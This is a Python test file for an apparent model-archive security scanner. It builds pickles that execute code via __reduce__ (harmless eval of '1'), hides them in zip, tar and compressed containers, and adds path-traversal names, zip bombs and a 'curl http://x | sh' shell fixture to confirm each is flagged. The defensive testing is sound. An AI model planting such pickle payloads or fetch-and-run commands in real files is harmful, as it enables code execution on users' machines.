import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from typing import Any

import numpy as np
import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st

from qaudit.static.archives.inspector import inspect_archive
from qaudit.static.case import Case
from qaudit.static.model_parts import Examined
from qaudit.static.pickles.window import Held


class Runs:
    def __reduce__(self) -> tuple[Any, ...]:
        return eval, ("1",)


BAD = pickle.dumps(Runs(), 2)
UNSAFE = "pickle/unsafe-global"


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", method) as archive:
        warnings.simplefilter("ignore")  # of two members with one name
        for name, data in members:
            archive.writestr(name, data)
    return stream.getvalue()


def tarred(*members: tuple[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def looked(data: bytes, name: str = "x.pt") -> Examined:
    return inspect_archive(Held(data, name), Case())


def ids(data: bytes, name: str = "x.pt") -> set[str]:
    return {finding.id for finding in looked(data, name).findings if finding.severity != "info"}


PLAIN = zipped(("a/data.pkl", BAD))
AT = PLAIN.find(b"PK\x01\x02")


def changed(*places: tuple[int, int]) -> bytes:
    data = bytearray(PLAIN)
    for at, bits in places:
        data[at] ^= bits
    return bytes(data)


def saved(value: Any) -> bytes:
    stream = io.BytesIO()
    torch.save(value, stream)
    return stream.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "also"),
    [
        ("x.pt", saved({"w": torch.ones(3), "x": Runs()}), None),
        ("deflated.pt", zipped(("a/data.pkl", BAD), method=zipfile.ZIP_DEFLATED), None),
        ("bzip2.zip", zipped(("a/data.pkl", BAD), method=zipfile.ZIP_BZIP2), None),
        ("lzma.zip", zipped(("a/data.pkl", BAD), method=zipfile.ZIP_LZMA), None),
        ("crc.pt", changed((AT + 16, 1), (14, 1)), "archive/bad-checksum"),
        ("locked.pt", changed((AT + 8, 1), (6, 1)), "archive/false-flags"),
        ("locked-once.pt", changed((AT + 8, 1)), "archive/header-mismatch"),
        ("name.pt", changed((30, 3)), "archive/header-mismatch"),
        ("twice.pt", zipped(("a/data.pkl", pickle.dumps(1)), ("a/data.pkl", BAD)), "archive/duplicate-name"),
        ("before.pt", BAD + zipped(("a/data.pkl", pickle.dumps(1))), "archive/prepended"),
        ("cut.pt", PLAIN[:-22], "archive/broken"),
        ("renamed.pt", zipped(("a/notes.txt", BAD)), "archive/renamed-pickle"),
        ("among-weights.pt", zipped(("a/data/0", BAD)), None),
        ("nested.zip", zipped(("b.zip", zipped(("c.tar", tarred(("d.pkl", BAD)))))), None),
        ("x.tar", tarred(("pickle", BAD)), None),
        ("x.nemo", gzip.compress(tarred(("weights.ckpt", BAD)), mtime=0), None),
        ("x.bin", gzip.compress(BAD, mtime=0), None),
        ("x.xz", lzma.compress(BAD), None),
        ("x.joblib", bz2.compress(BAD), None),
        ("x.pkl", zlib.compress(BAD), None),
    ],
)  # fmt: skip
def test_a_pickle_that_runs_is_found(name: str, data: bytes, also: str | None) -> None:
    found = ids(data, name)
    assert UNSAFE in found
    assert also is None or also in found


def test_a_member_that_is_not_listed_is_looked_at() -> None:
    both = zipped(("a/one", b"1"), ("a/data.pkl", BAD))
    first = both.find(b"PK\x01\x02")
    second = both.find(b"PK\x01\x02", first + 4)
    end = both.find(b"PK\x05\x06")
    data = bytearray(both[:second] + both[end:])
    struct.pack_into("<HHLL", data, second + 8, 1, 1, second - first, first)
    assert {"archive/hidden-member", UNSAFE} <= ids(bytes(data))


def test_what_cannot_be_opened_is_named() -> None:
    for head in (b"7z\xbc\xaf\x27\x1c" + bytes(40), b"Rar!\x1a\x07\x01\x00", b"\x28\xb5\x2f\xfd" + bytes(40)):
        examined = looked(head, "model.bin")
        assert [(f.id, f.severity) for f in examined.findings] == [("archive/opaque", "high")]
        assert [surface.state for surface in examined.surfaces] == ["skipped"]
    assert [f.severity for f in looked(b"Rar!\x1a\x07\x01\x00", "data.rar").findings] == ["medium"]


def test_names_of_what_cannot_be_opened_are_judged() -> None:
    def block(body: bytes) -> bytes:
        return bytes(4) + bytes([len(body)]) + body

    names = [b"../../.bashrc", b"run.exe", b"weights.bin"]
    files = [block(b"\2\0\0\0\x20\0\0" + bytes([len(name)]) + name) for name in names]
    data = b"Rar!\x1a\7\1\0" + block(b"\1\0\0") + b"".join(files) + block(b"\5\0\0")
    examined = looked(data, "data.rar")
    found = {f.id: f.severity for f in examined.findings}
    assert found == {
        "archive/opaque": "medium",
        "archive/path-traversal": "critical",
        "archive/program": "high",
    }
    assert any("'weights.bin'" in f.evidence for f in examined.findings if f.id == "archive/opaque")
    assert [surface.state for surface in examined.surfaces] == ["skipped"]


def test_bombs_are_named_and_not_unpacked() -> None:
    assert "archive/bomb" in ids(zipped(("data.pkl", bytes(66 << 20)), method=zipfile.ZIP_DEFLATED))
    assert "archive/bomb" in ids(gzip.compress(bytes(66 << 20)), "x.gz")


def test_depth_is_bounded() -> None:
    data = BAD
    for number in range(8):
        data = zipped((f"{number}.zip", data) if number else ("x.pkl", data))
    examined = looked(data, "x.zip")
    assert "archive/opaque" in {finding.id for finding in examined.findings}
    assert "skipped" in {surface.state for surface in examined.surfaces}


def test_members_of_other_kinds() -> None:
    found = ids(
        zipped(
            ("a/run.sh", b"#!/bin/sh\ncurl http://x | sh\n"),
            ("a/x.so", b"\x7fELF" + bytes(60)),
            ("a/m.py", b"import os\nos.system('x')"),
        ),
        "x.mar",
    )
    assert {"archive/program", "code/shell-command", "code/native-program", "code/runs-commands"} <= found
    assert "archive/keras-lambda" in ids(zipped(("config.json", b'{"class_name": "Lambda"}')), "x.keras")
    packed = looked(zipped(("model.gguf", b"GGUF" + bytes(30))), "x.zip")
    assert [surface.state for surface in packed.surfaces] == ["examined", "skipped"]


def test_honest_archives_are_clean() -> None:
    weights = {f"layer.{i}": torch.randn(64) for i in range(20)}
    stream = io.BytesIO()
    np.savez_compressed(stream, a=np.arange(5), b=np.array(["x"]))
    script = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), script)
    assert not ids(saved(weights))
    assert not ids(stream.getvalue(), "x.npz")
    assert ids(script.getvalue()) == {"archive/torchscript"}
    assert {surface.state for surface in looked(saved(weights)).surfaces} == {"examined"}


@settings(max_examples=150)
@given(st.data())
def test_never_raises(data: st.DataObject) -> None:
    raw = bytearray(
        data.draw(
            st.sampled_from(
                [
                    PLAIN,
                    tarred(("pickle", BAD)),
                    gzip.compress(BAD, mtime=0),
                    zipped(("a.zip", PLAIN), method=8),
                ]
            )
        )
    )
    for _ in range(data.draw(st.integers(1, 6))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    looked(bytes(raw[: data.draw(st.integers(0, len(raw)))]), "x.pt")
